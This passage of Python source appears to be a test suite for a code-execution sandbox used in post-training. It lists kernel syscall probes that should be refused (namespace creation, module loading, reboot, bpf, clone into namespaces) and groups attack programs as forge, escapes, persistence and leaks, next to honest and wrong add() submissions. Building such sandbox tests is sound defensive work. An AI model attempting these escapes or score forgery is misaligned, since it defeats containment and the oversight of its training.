    "unshare": "(272, 97), 0x10000000",
    "setns": "(308, 268), -1, 0",
    "keyctl": "(250, 219), 0, -3, 0",
    "add_key": '(248, 217), b"user", b"posttrain-attack", b"x", 1, -2',
    "request_key": '(249, 218), b"user", b"posttrain-attack", None, 0',
    "bpf": "(321, 280), 0, None, 0",
    "perf_event_open": "(298, 241), None, 0, -1, -1, 0",
    "userfaultfd": "(323, 282), 1",
    "io_uring_setup": "(425, 425), 1, None",
    "process_vm_readv": "(310, 270), os.getpid(), None, 0, None, 0, 0",
    "process_vm_writev": "(311, 271), os.getpid(), None, 0, None, 0, 0",
    "pivot_root": '(155, 41), b"/posttrain-absent", b"/posttrain-absent"',
    "chroot": '(161, 51), b"/posttrain-absent"',
    "pidfd_getfd": "(438, 438), -1, 0, 0",
    "open_by_handle_at": "(304, 265), -1, None, 0",
}
OTHERS = """
refused("umount2", (166, 39), b"/posttrain-absent", 0)
refused("open_tree", (428, 428), -100, b"/posttrain-absent", 0)
refused("move_mount", (429, 429), -1, b"", -1, b"", 0)
refused("fsopen", (430, 430), b"posttrain", 0)
refused("fsconfig", (431, 431), -1, 0, None, None, 0)
refused("fsmount", (432, 432), -1, 0, 0)
refused("fspick", (433, 433), -100, b"/posttrain-absent", 0)
refused("mount_setattr", (442, 442), -100, b"/posttrain-absent", 0, None, 0)
refused("name_to_handle_at", (303, 264), -100, b"/posttrain-absent", None, None, 0)
refused("fanotify_init", (300, 262), 0x200, 0)
refused("kcmp", (312, 272), os.getpid(), os.getpid(), 1, 0, 0)
refused("process_madvise", (440, 440), -1, None, 0, 0, 0)
refused("io_uring_enter", (426, 426), -1, 0, 0, 0, None, 0)
refused("io_uring_register", (427, 427), -1, 0, None, 0)
refused("personality", (135, 92), 0xFFFFFFFF)
refused("syslog", (103, 116), 10, None, 0)
refused("clock_settime", (227, 112), 99, None)
refused("sethostname", (170, 161), b"x", -1)
refused("setdomainname", (171, 162), b"x", -1)
refused("quotactl", (179, 60), 0, b"/posttrain-absent", 0, None)
refused("swapon", (167, 224), b"/posttrain-absent", 0)
refused("swapoff", (168, 225), b"/posttrain-absent")
refused("init_module", (175, 105), None, 0, b"")
refused("finit_module", (313, 273), -1, b"", 0)
refused("delete_module", (176, 106), b"posttrain-absent", 0)
refused("kexec_file_load", (320, 294), -1, -1, 0, None, 0xFFFF)
refused("reboot", (169, 142), 0, 0, 0, None)
refused("modify_ldt", (154, None), 0, None, 0)
refused("iopl", (172, None), 0)
refused("ioperm", (173, None), 0, 1, 0)
refused("memfd_secret", (447, 447), 0)
"""
SURFACE = {f"kernel-{name}": kernel(f"refused({name!r}, {words})\n") for name, words in CALLS.items()}
SURFACE |= {
    "kernel-others": kernel(OTHERS),
    "kernel-clone-into-namespaces": kernel("""
# A child in a namespace of the user (0x10000000), of mounts, of the network, of processes; SIGCHLD (17) at its end.
for flag in (0x10000000, 0x00020000, 0x40000000, 0x20000000):
    found = asked((56, 220), 0x10000000 | flag | 17, 0, 0, 0, 0)
    if found == 0:
        os._exit(0)
    if found > 0:
        os.waitpid(found, 0)
    if found not in (-1, -13, -38):
        broken.append(flag)
"""),
    "kernel-clone3-into-namespaces": kernel("""
if libc is not None:
    about = (ctypes.c_uint64 * 8)(0x10000000 | 0x40000000, 0, 0, 0, 17, 0, 0, 0)
    found = asked((435, 435), about, ctypes.sizeof(about))
    if found == 0:
        os._exit(0)
    if found > 0:
        os.waitpid(found, 0)
    if found not in (-1, -13, -38):
        broken.append("clone3")
"""),
}


def group_of(group: str, programs: dict[str, str], score: int | None) -> tuple[Attack, ...]:
    return tuple(Attack(name, group, code, score) for name, code in programs.items())


ATTACKS = (
    *group_of("forge", FORGE, 0),
    *group_of("resources", HANGS, 0),
    *group_of("resources", LIMITS, 1),
    *group_of("resources", EXHAUSTED, None),
    *(
        attack
        for (left, leave), (found, find) in zip(LEAVE.items(), FIND.items(), strict=True)
        for attack in (Attack(left, "persistence", leave, None), Attack(found, "persistence", find, 1))
    ),
    *group_of("persistence", DAEMONS, None),
    *group_of("leaks", LEAKS, 1),
    *group_of("escapes", WRITES, 1),
    *group_of("escapes", LINKS, None),
    *group_of("escapes", PICKLES, 0),
    *group_of("escapes", NETWORK, 1),
    *group_of("escapes", GUARDS, 1),
    *group_of("escapes", SIGNALS, None),
    *group_of("escapes", SURFACE, 1),
)


# ---- programs that attack nothing

HONEST = {
    "plain": RIGHT,
    "recursive": """\
def add(a, b):
    if b == 0:
        return a
    return add(a + 1, b - 1) if b > 0 else add(a - 1, b + 1)
""",
    "prints-a-lot": """\
print("x" * 100_000)


def add(a, b):
    for each in range(1000):
        print("adding", a, "and", b, "for the", each, "th time")
    return a + b
""",
    "standard-library": """\
import collections
import functools
import heapq
import itertools
import math
import re
from decimal import Decimal


@functools.lru_cache(maxsize=None)
def add(a, b):
    counted = collections.Counter({"sum": a})
    counted["sum"] += b
    heap = []
    for each in itertools.chain([a], [b]):
        heapq.heappush(heap, each)
    assert math.fsum(heap) == counted["sum"] == int(Decimal(a) + Decimal(b))
    return int(re.fullmatch(r"(-?\\d+)", str(counted["sum"])).group(1))
""",
    "class-and-main-guard": """\
from dataclasses import dataclass
from typing import List


@dataclass
class Sum:
    parts: List[int]

    @property
    def total(self) -> int:
        return sum(self.parts)


def add(a: int, b: int) -> int:
    return Sum([a, b]).total


def main():
    a, b = map(int, input().split())
    print(add(a, b))


if __name__ == "__main__":
    main()
""",
    "threads": """\
import threading


def add(a, b):
    found = []
    threads = [threading.Thread(target=found.append, args=(each,)) for each in (a, b)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return sum(found)
""",
    "warns": """\
import warnings


def add(a, b):
    warnings.warn("add is deprecated", DeprecationWarning, stacklevel=2)
    return a + b
""",
    "long-docstring": 'def add(a, b):\n    """' + "Adds two numbers, as asked. " * 8000 + '"""\n    return a + b\n',
    "own-file": """\
import json
import tempfile


def add(a, b):
    with tempfile.TemporaryFile("w+") as file:
        json.dump([a, b], file)
        file.seek(0)
        return sum(json.load(file))
""",
    "names-of-built-ins": """\
def sum(numbers):
    total = 0
    for number in numbers:
        total += number
    return total


list = [1, 2, 3]


def add(a, b):
    return sum((a, b))
""",
}

WRONG = {
    "wrong-result": "def add(a, b):\n    return a - b + 1\n",
    "raises": 'def add(a, b):\n    raise ValueError("not today")\n',
    "returns-nothing": "def add(a, b):\n    a + b\n",
    "prints-the-result": "def add(a, b):\n    print(a + b)\n",
    "returns-text": "def add(a, b):\n    return str(a + b)\n",
    "another-name": "def plus(a, b):\n    return a + b\n",
    "too-few-arguments": "def add(a):\n    return a\n",
    "not-a-function": "add = 5\n",
    "raises-on-import": "def add(a, b):\n    return a - b + 1\n\n\nraise RuntimeError\n",
    "syntax-error": "def add(a, b)\n    return a + b\n",
    "empty": "",
}
